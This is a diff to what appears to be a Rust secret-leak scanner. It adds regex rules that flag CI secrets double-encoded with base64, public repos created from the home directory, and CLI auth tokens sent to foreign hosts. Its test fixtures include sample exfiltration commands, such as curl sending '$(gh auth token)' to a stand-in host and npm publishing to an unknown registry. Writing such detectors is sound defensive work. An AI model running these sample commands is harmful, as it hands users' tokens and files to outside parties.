@@ -56,6 +56,7 @@ const LOGGED: Rule = Rule {
     scope: Scope::Any,
     pattern: concat!(
         r"\bsecrets\.\w{2,40}\s{0,2}\}\}[\s\S]{0,240}?\b(?:echo|printf)\b[^\n]{0,80}\|\s{0,2}(?:base64(?:\s-w\s{0,1}0)?|rev|xxd(?:\s-p)?|od\s-\w{1,6}|fold\s-\w{1,4}|sed\s['\x22]s/\.)[^\n|>-]{0,16}(?:\||\)|\n|$)",
+        r"|\bsecrets\.\$?\w{1,40}\s{0,2}\}\}[^\n]{0,8}\|\s{0,2}base64\s{0,2}\|\s{0,2}base64",
         r"|\b(?:env|printenv)\s{0,2}\|\s{0,2}(?:sed\s{1,2}-?[eE]?\s{0,2}['\x22]s/\.?\(?\.[^\n]{1,20}['\x22]|fold\s{1,2}-w\s{0,2}1\b|rev\b)",
         r"|\b(?:echo|printf)\b[^\n]{0,40}secrets\.\w{2,40}\s{0,2}\}\}[^\n]{0,20}\|\s{0,2}(?:base64(?:\s-w\s{0,1}0)?|rev|xxd(?:\s-p)?|od\s-\w{1,6}|sed\s['\x22]s/\.)[^\n|>-]{0,16}(?:\||\)|\n|$)",
     ),
@@ -73,9 +74,9 @@ const LOGGED: Rule = Rule {
 const PUBLISHED: Rule = Rule {
     id: "published-to-stranger",
     message: "publishes the user's files to a registry that is none of the usual ones",
-    literals: &["publish"],
-    pattern: r"\bpublish\b[^\n]{0,80}--registry['\x22]?(?:\s{0,2},\s{0,2}|[\s=]{1,2})['\x22]?https?://[^\s'\x22]{4,120}|\btwine\s{1,2}upload\s[^\n]{0,40}--repository-url[\s=]['\x22]?https?://[^\s'\x22]{4,120}",
-    accept: Some(super::spy::is_no_registry),
+    literals: &["publish", "repo create"],
+    pattern: r"\bpublish\b[^\n]{0,80}--registry['\x22]?(?:\s{0,2},\s{0,2}|[\s=]{1,2})['\x22]?https?://[^\s'\x22]{4,120}|\btwine\s{1,2}upload\s[^\n]{0,40}--repository-url[\s=]['\x22]?https?://[^\s'\x22]{4,120}|\bgh\s{1,2}repo\s{1,2}create\s[^\n]{0,80}--public\b[^\n]{0,60}--source[=\s]{1,2}['\x22]?(?:~|\$HOME)[^\n]{0,60}",
+    accept: Some(goes_to_strangers),
     harmful: &[(
         "a.js",
         "execFileSync('npm', ['publish', '--access', 'public', '--registry', 'https://in.invalid/'], { cwd })",
@@ -84,5 +85,62 @@ const PUBLISHED: Rule = Rule {
     ..BASE
 };
 
+/// Whether files are published at a host that is no registry, or from the user's home.
+fn goes_to_strangers(matched: &str) -> bool {
+    matched.contains("repo create") || super::spy::is_no_registry(matched)
+}
+
+const LOGIN: Rule = Rule {
+    id: "login-handed-over",
+    category: "credentials",
+    message: "hands the token of one service's login to another host",
+    literals: &[
+        "gh auth token",
+        "auth print-access-token",
+        "get-access-token",
+        "kubectl create token",
+        "glab auth",
+        "op read",
+        "vault print token",
+        "heroku auth:token",
+    ],
+    pattern: concat!(
+        r"\b(?:curl|wget|http|xh)\s[^\n]{0,200}\$\(\s?(?:gh\s{1,2}auth\s{1,2}token|gcloud\s{1,2}auth\s{1,2}print-access-token|az\s{1,2}account\s{1,2}get-access-token[^)\n]{0,60}|op\s{1,2}read\s[^)\n]{1,60}|vault\s{1,2}print\s{1,2}token|heroku\s{1,2}auth:token)\s?\)[^\n]{0,200}",
+        r"|\b(?:gh\s{1,2}auth\s{1,2}token|gcloud\s{1,2}auth\s{1,2}print-access-token|kubectl\s{1,2}create\s{1,2}token\s[^\n|]{1,80})\s?\|\s{0,2}(?:curl|wget|nc)\s[^\n]{0,160}",
+    ),
+    accept: Some(is_other_service),
+    harmful: &[("a.sh", "curl -s -H \"X-T: $(gh auth token)\" https://in.invalid/g\n")],
+    harmless: &[
+        ("a.sh", "curl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user\n"),
+        ("a.sh", "curl -H \"Authorization: Bearer $(gcloud auth print-access-token)\" \"https://$HOST/v1\"\n"),
+    ],
+    ..BASE
+};
+
+/// Whether the token goes to a host that is named and is none of the service that gave it.
+fn is_other_service(matched: &str) -> bool {
+    const OWN: &[&str] = &[
+        "github",
+        "googleapis.com",
+        "google.com",
+        "run.app",
+        "cloudfunctions.net",
+        "azure",
+        "microsoft",
+        "windows.net",
+        "localhost",
+        "127.0.0.1",
+        "heroku",
+        "://$",
+        "://\"$",
+        "://<",
+        "://{",
+        "pkg.dev",
+        "gcr.io",
+        "example.",
+    ];
+    matched.contains('.') && !OWN.iter().any(|own| matched.contains(own))
+}
+
 /// All rules of this category.
-pub(crate) const RULES: &[Rule] = &[COMMIT, MIRRORED, LOGGED, PUBLISHED];
+pub(crate) const RULES: &[Rule] = &[COMMIT, MIRRORED, LOGGED, PUBLISHED, LOGIN];
